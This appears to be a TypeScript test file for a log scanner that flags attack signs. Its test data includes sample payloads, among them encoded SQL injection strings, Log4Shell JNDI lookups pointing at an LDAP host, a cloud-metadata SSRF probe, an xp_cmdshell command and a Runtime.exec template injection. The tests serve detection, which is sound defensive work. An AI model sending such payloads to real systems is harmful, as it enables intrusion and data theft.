import { expectAtMostTimes, expectLinear } from '@trellis/test/support/growth'
import { describe, expect, test } from 'vitest'
import { wordsOf } from '../segments/tokens.ts'
import { attackSigns, matchSigns, signGroups } from './match-signs.ts'
import { createWordMarks } from './word-marks.ts'

const labelsOf = (text: string) => matchSigns(text).map(({ label }) => label)

describe('signs of attacks', () => {
  test.each(attackSigns.flatMap((sign) => sign.samples.matches.map((line) => [sign.label, line, sign] as const)))(
    '%s is found in its sample line: %s',
    (label, line, sign) => {
      expect(labelsOf(line)).toContain(label)
      // The line is found by a search for these words.
      expect(wordsOf(line).some((word) => sign.words.includes(word))).toBe(true)
    },
  )

  test.each(attackSigns.map(({ label, samples }) => [label, samples.passes] as const))(
    '%s is not found in a similar line',
    (label, line) => {
      expect(labelsOf(line)).not.toContain(label)
    },
  )

  test.each(attackSigns.map(({ label, words }) => [label, words] as const))(
    '%s has distinct words that are tokens of texts',
    (_, words) => {
      expect(words.flatMap(wordsOf)).toEqual(words)
      expect(new Set(words).size).toBe(words.length)
    },
  )

  test.each([
    ['sql_injection', '"GET /item?id=7%20UNION%20ALL%20SELECT%20name%20FROM%20people HTTP/1.1" 200'],
    ['sql_injection', '"GET /item?name=kim%27%20or%20%27a%27=%27a HTTP/1.1" 200'],
    ['sql_injection', '"GET /item?id=1%2527%2520OR%25201=1 HTTP/1.1" 200'],
    ['sql_injection', '"GET /item?id=7%27and%20sleep%289%29 HTTP/1.1" 200'],
    ['log4shell', '"GET /?q=%24%7B%24%7Blower:j%7Dndi:x%7D HTTP/1.1" 200'],
    ['log4shell', '"GET /?q=%24%7B%24%7B::-j%7Dndi:x%7D HTTP/1.1" 200'],
    ['secret_file_probe', '"GET /.bash_history HTTP/1.1" 404'],
    ['secret_file_probe', '"GET /.DS_Store HTTP/1.1" 404'],
    ['account_change', 'useradd[77]: new user: name=kim, UID=0, GID=0, home=/root'],
    ['privilege_escalation', 'su[77]: pam_unix(su:auth): authentication failure; logname= uid=1000 user=root'],
    ['reported_attack', 'waf: XSS attempt from 192.0.2.7'],
  ])('%s is found by a search for words in %s', (label, line) => {
    const sign = attackSigns.find((candidate) => candidate.label === label)
    expect(labelsOf(line)).toContain(label)
    expect(wordsOf(line).filter((word) => sign?.words.includes(word))).not.toEqual([])
  })

  test.each([
    'smtp[7]: 7A: to=<kim@example.net>, dsn=5.7.1, status=bounced (host mx.example.net[192.0.2.7] refused: Relay access denied)',
    'java.lang.RuntimeException: boom\n\tat org.example.Shop.open(Shop.java:7)',
    'java.io.IOException: Cannot run program "x"\n\tat java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)\n\tat java.base/java.lang.Runtime.exec(Runtime.java:620)',
    'java.lang.ClassNotFoundException: org.example.Driver\n\tat java.lang.Class.forName0(Native Method)\n\tat java.lang.Class.forName(Class.java:264)',
    "2024-05-01 10:20:30 UTC [7] kim@shop LOG:  statement: SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'",
    '2024-05-01 10:20:30 UTC [7] LOG:  duration: 10002.1 ms  execute <unnamed>: SELECT pg_sleep(10)',
    '2024-05-01T10:20:30.123456Z\t    8 Query\tSELECT a FROM x UNION ALL SELECT b FROM y',
    "Error: Cannot find module '../../../proc/hosts'",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a logger writes
    'WARN StatusLogger Unable to look ${jndi:java:comp/env/logging/name} up',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a logger writes
    'DEBUG StatusLogger fileName="${sys:log.dir:-${env:HOME}}/shop.log"',
    '"GET /proxy?url=https://pictures.example.net/10.png HTTP/1.1" 200',
    '"GET /oauth/authorize?redirect_uri=http%3A%2F%2Flocalhost%3A4100%2Fdone HTTP/1.1" 302',
    'ERROR in ../../src/self/app.ts(3,5): TS2304',
    '[2024/05/01 10:20:30,  1] ../../source3/auth/auth.c:100(check)\n  passwd of [kim] is wrong',
  ])('traces, statements logged by a database, and files of a program have no signs: %s', (line) => {
    expect(labelsOf(line)).toEqual([])
  })

  test.each([
    ['sql_injection', '"GET /item?q=statement:+x&id=7+UNION+ALL+SELECT+1,2 HTTP/1.1" 200'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what attackers send
    ['log4shell', '"GET / HTTP/1.1" 200 "${jndi:java:comp/env/x}"'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what attackers send
    ['log4shell', 'signed in as ${jndi:java:comp/env} ${jndi:ldap://192.0.2.7/a}'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what attackers send
    ['log4shell', 'signed in as ${${sys:x:-${env:y:-j}}ndi:x}'],
    ['server_side_request', '"GET /?next=http://169.254.169.254/latest/ HTTP/1.1" 200'],
    ['server_side_request', '"GET /?target=http://127.0.0.1:6379/ HTTP/1.1" 200'],
    ['sql_injection', "LOG:  statement: EXEC xp_cmdshell 'whoami'"],
    ['path_traversal', '"GET /../../../app.php HTTP/1.1" 404 "not found"'],
    ['template_injection', '"GET /?x=T(java.lang.Runtime).getRuntime().exec(%22id%22) HTTP/1.1" 200'],
    ['template_injection', '"GET /?x=%22%22.getClass().forName(%22x%22) HTTP/1.1" 200'],
  ])('%s is found where an attacker makes it look ordinary: %s', (label, line) => {
    expect(labelsOf(line)).toContain(label)
  })

  test('a sign whose words are missing is not matched, and the result is the same', () => {
    const groupsOf = createWordMarks(signGroups)
    const lines = attackSigns.flatMap(({ samples }) => [...samples.matches, samples.passes])
    for (const line of [...lines, ...lines.map((line) => `${line} ${lines[0]}`)])
      expect(matchSigns(line, groupsOf(line))).toEqual(matchSigns(line))
    expect(matchSigns(lines[0] ?? '', 0)).toEqual([])
  })

  test('double encoding is decoded as a server would', () => {
    expect(labelsOf('"GET /item?id=1%2527%2520OR%25201=1 HTTP/1.1" 200')).toContain('sql_injection')
  })

  test('HTML that a server escaped before logging is unescaped', () => {
    expect(labelsOf('"POST /log?text=&lt;script src=x&gt; HTTP/1.1" 200')).toContain('cross_site_scripting')
  })

  test('images below the path of a program are not path confusion, nor is a name in an ordinary text', () => {
    expect(labelsOf('"GET /bundle.php/v1/a/style.css HTTP/1.1" 200')).toEqual([])
    expect(labelsOf(`verified 'identifier "net.example" and certificate leaf = "7"'`)).toEqual([])
  })

  test('invalid UTF-8 is handled', () => {
    expect(labelsOf('"GET /%ff%fe%c0%ae%c0%ae/x HTTP/1.1" 400')).toContain('path_traversal')
  })

  const hostile = [
    '${',
    "' or ",
    '../',
    '<svg ',
    '=<svg',
    '%2e',
    '; ',
    '=;',
    '() { ',
    'union/**/',
    '/vendor/phpunit/',
    'mkfifo ',
    '?{{',
    '?{{1*',
    'path=',
    '&login',
  ]

  test('the work for a hostile line is linear in its length', () => {
    for (const piece of hostile)
      expectLinear(piece, (length) => matchSigns(piece.repeat(Math.ceil(length / piece.length))))
  })

  test('no hostile line takes much more work than the next', () => {
    // Several times: the time of one line is too short for the clock of a thread.
    const work = (piece: string) => () => {
      for (let time = 0; time < 8; time++) matchSigns(piece.repeat(4_096))
    }
    for (const piece of hostile) expectAtMostTimes(30, piece, work(piece), work('../'))
  })
})
